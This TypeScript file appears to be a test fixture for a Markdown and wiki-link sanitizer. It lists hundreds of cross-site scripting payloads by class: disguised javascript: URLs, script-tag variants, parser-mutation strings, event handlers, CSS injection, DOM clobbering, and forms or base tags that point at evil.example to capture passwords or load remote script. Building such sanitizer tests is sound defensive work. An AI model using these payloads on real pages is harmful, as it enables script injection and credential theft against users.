/** Ways to make a page act through Markdown or HTML, by class. Each would act, somewhere, if the text came out as it is. */

const words = (text: string): string[] => text.trim().split(/\s+/)

const SCRIPT_SCHEMES = [
  'javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'livescript:x',
  'blob:x',
  'file:///etc/passwd',
]

/** Spellings that browsers have taken, or take, for `javascript:`. */
const DISGUISED = [
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\u2028javascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  'java\u00adscript:alert(1)',
  'java\0script:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  'javascript&#x0003A;alert(1)',
  'javascript&#58alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#0000106avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java&#9;script&#10;:alert(1)',
  '&#1;javascript:alert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
  'javascript://https://a.example/%0aalert(1)',
  'java<!-- -->script:alert(1)',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'jar:javascript:alert(1)!/',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:image/svg+xml,<svg onload=alert(1)>',
  'data\t:text/html,x',
  'http\njavascript:alert(1)',
  '\\javascript:alert(1)',
  'javascript\\:alert(1)',
  'wiki-0:0',
]

const ADDRESSES = [...SCRIPT_SCHEMES, ...DISGUISED]

const HOLDERS = words(`
  href src action formaction xlink:href background poster data cite ping longdesc srcdoc srcset style lowsrc
  dynsrc codebase usemap manifest content to values from
`)

const ELEMENTS = words(`
  a img form input button iframe object embed link meta base video audio source track svg math body html table td
  p h1 details area map applet frame frameset portal layer isindex bgsound marquee select option keygen template
  slot dialog picture fencedframe x-custom
`)

const HANDLERS = words(`
  onclick onerror onload onmouseover onfocus ontoggle onbegin onpointerrawupdate onanimationstart ONCLICK oNeRrOr
  on\u00adload onbeforetoggle onscrollend onwebkittransitionend formaction style autofocus
`)

const WIKI = [
  '[["><img src=x onerror=alert(1)>]]',
  '[[x|<img src=x onerror=alert(1)>]]',
  '[[x" onclick="alert(1)]] ![[x\' onclick=\'alert(1)]]',
  '[[javascript:alert(1)]] [[x#"><script>alert(1)</script>]]',
  '[a [[b]] c](javascript:alert(1))',
  '[[a]](javascript:alert(1))',
  '![[a]](javascript:alert(1))',
  '<b title="[[x]]">[[y]]</b><script>[[z]]</script>',
  '<a href="[[x]]">y</a> <[[x]]> <a [[x]]>z</a>',
  '<wiki-0:0> [[x]] &lt;wiki-1:0&gt; %3Cwiki-1:0%3E <div title="<wiki-1:0>">',
]

const markdownLinks = (address: string): string[] => [
  `[x](${address})`,
  `[x](<${address}>)`,
  `![x](${address})`,
  `![x](<${address}> "t")`,
  `<${address}>`,
  `[x]\n\n[x]: ${address}`,
  `[x][y]\n\n[y]: <${address}> "title"`,
  `[![x](${address})](${address})`,
  `| [x](${address}) |\n|-|\n| ![x](${address}) |`,
  address,
]

const QUOTING = [
  '[x](https://a.example/"onmouseover="alert(1))',
  "[x](https://a.example/'onmouseover='alert(1))",
  '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
  "[x](https://a.example '\"><img src=x onerror=alert(1)>')",
  '[x](https://a.example (&quot; onmouseover=alert(1)))',
  '![" onerror="alert(1)](https://a.example/x.png)',
  '![<img src=x onerror=alert(1)>](https://a.example/x.png)',
  '![`"><script>alert(1)</script>`](https://a.example/x.png "a\'b\\"c")',
  '[x]: https://a.example "\\"><script>alert(1)</script>"\n\n[x]',
  '<https://a.example/"onmouseover="alert(1)>',
  '<mailto:a@b.example?subject="><script>alert(1)</script>>',
  'https://a.example/"onmouseover="alert(1)',
  'www.a.example/<script>alert(1)</script>',
  'a"onclick=alert(1)@b.example',
  '[x](\\"onclick=alert(1)) [<img src=x onerror=alert(1)>](x)',
  '[x](https://a.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E)',
  '**<img src=x onerror=alert(1)>** ~~<svg onload=alert(1)>~~ *<a href="*javascript:alert(1)">x</a>',
  '- [ ] <img src=x onerror=alert(1)>\n- [x" onclick=alert(1)] y\n1. <svg/onload=alert(1)>',
  '> <iframe src=javascript:alert(1)>\n> > <base href=//evil.example>',
  '| a | <img src=x onerror=alert(1)> |\n|:-|-:|\n| </td></tr></table><script>alert(1)</script> | b |',
  '<kbd><script>alert(1)</script> <img src=x onerror=alert(1)></kbd> <pre onclick=alert(1)><img src=x onerror=alert(1)></pre>',
]

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/x>alert(1)</script >',
  '<script\n>alert(1)</script\n>',
  '<script\x0c>alert(1)</script>',
  '<script\x0b>alert(1)</script>',
  '<script\0>alert(1)</script>',
  '<scr\0ipt>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<script <b>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<script type="module">import "//evil.example"</script>',
  '<\u017fcript>alert(1)</\u017fcript>',
  '<ſcript src=//evil.example>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<?php echo 1 ?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '`<script>alert(1)</script>`',
  '```<script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  "``` ' onclick=alert(1) x='\nx\n```",
  '~~~ "onmouseover="alert(1)\nx\n~~~',
]

const STYLES = [
  '<style>@import "//evil.example"</style>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(//evil.example)">x</p>',
  '<p style=expression(alert(1))>x</p>',
  '<a style="position:fixed;inset:0" href="https://evil.example">x</a>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<b class="modal fade" data-toggle="modal" data-target="#x">x</b>',
]

/** Text that means one thing to one parser and another to the next. */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<div><noscript></div><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><slot onslotchange=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<textarea/></textarea/><img src=x onerror=alert(1)>',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<style><img title="</style><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!---><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!-- <!-- --><img src=x onerror=alert(1)> -->',
  '<!><img src=x onerror=alert(1)>',
  '<?><img src=x onerror=alert(1)>',
  '</><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<select><noscript></select><script>alert(1)</script>',
  '<table><caption><svg><style><img src onerror=alert(1)>',
  '<table><script>alert(1)</script><tr><td>x</table>',
  '<a><b></a><p></b><table><a href="javascript:alert(1)">x</table>',
  '<b><i></b></i><div></b></p></div></li></td></table></main></body></html>',
  '</main></footer></div></section></article></body></html><script>alert(1)</script>',
  '<p title="`<img src=x onerror=alert(1)>`">`"><img src=x onerror=alert(1)>`',
  '<img alt="``onload=alert(1) x=``" src=x>',
  "<a title='\"><img src=x onerror=alert(1)>' href=#>x</a>",
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>',
]

const FORMS_AND_PAGES = [
  '<form action="https://evil.example"><input name=password type=password><button>ok</button></form>',
  '<input type=image src=x onerror=alert(1)>',
  '<input type=checkbox name=x form=y onchange=alert(1)>',
  '<input type="checkbox " value=1><input type=CHECKBOX disabled><input disabled>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<label for=x>x</label><output form=x>y</output><fieldset form=x></fieldset>',
  '<base href="https://evil.example/">',
  '<base target="_blank">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta name=referrer content=unsafe-url>',
  '<link rel=import href=//evil.example>',
  '<link rel=prefetch href=//evil.example>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data=javascript:alert(1)></object>',
  '<object><param name=src value=javascript:alert(1)></object>',
  '<embed src=data:text/html,x>',
  '<applet code=x></applet>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)><html manifest=x><head><title>x',
  '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
  '<img srcset="javascript:alert(1) 1x, //evil.example 2x">',
  '<picture><source srcset="data:,x"><img src=x></picture>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img usemap=#m src=x><map name=m><area href=javascript:alert(1)></map>',
  '<a href=x target=_blank rel=opener ping=//evil.example download>x</a>',
]

const CLOBBERING = [
  '<a id=location name=cookie href="https://evil.example">x</a>',
  '<img name=body src=x><img id=getElementById name=querySelector src=x>',
  '<form id=attributes><input name=nodeName></form>',
  '<h1 id=documentElement>x</h1><h2 name=forms>y</h2>',
  '<h1 id="h-x" name="h-y" class="wikilink">x</h1>',
  '# location\n# __proto__\n# constructor\n# " onclick=alert(1)\n# <img src=x onerror=alert(1)>\n# &quot; id=x',
  '<p __proto__=x constructor=y hasOwnProperty=z toString=w>x</p><__proto__ x=y><constructor><hasownproperty>',
  '<a class="wikilink" data-note-id="forged" data-target="forged" href="https://evil.example">x</a>',
  '<a class="wikilink btn" href="https://evil.example">x</a>',
  '<a href="wiki-0:0" onclick=alert(1)>x</a> [[Real]] <a href="&#119;iki-0:0" onclick=alert(1)>x</a>',
  '<ol start="1 onclick=alert(1)"><li value=1 type=a>x</ol>',
  '<code class="language-x modal">y</code><code class="language-">z</code>',
  '<td align="x"><th align=char char=. bgcolor=red background=//evil.example>',
]

/** The classes by name, each with its texts. */
export const VECTORS: Readonly<Record<string, readonly string[]>> = {
  'script in any spelling': SCRIPTS,
  'addresses that act, in Markdown': ADDRESSES.flatMap(markdownLinks),
  'addresses that act, in HTML': ADDRESSES.flatMap((address) =>
    ['"', "'", ''].flatMap((quote) => [
      `<a href=${quote}${address}${quote}>x</a>`,
      `<img src=${quote}${address}${quote}>`,
    ]),
  ),
  'any attribute that holds an address': ELEMENTS.flatMap((element) =>
    HOLDERS.map((holder) => `<${element} ${holder}="javascript:alert(1)">x</${element}>`),
  ),
  'event handlers and the like': ELEMENTS.flatMap((element) =>
    HANDLERS.flatMap((handler) => [
      `<${element} ${handler}=alert(1)>`,
      `<${element}/${handler}="alert(1)"/>x</${element}>`,
    ]),
  ),
  styles: STYLES,
  'mutations and foreign namespaces': MUTATIONS,
  'forms, frames and the page itself': FORMS_AND_PAGES,
  'ids, names and classes that clobber': CLOBBERING,
  'wiki links': WIKI,
  'quotes, titles and descriptions': QUOTING,
}
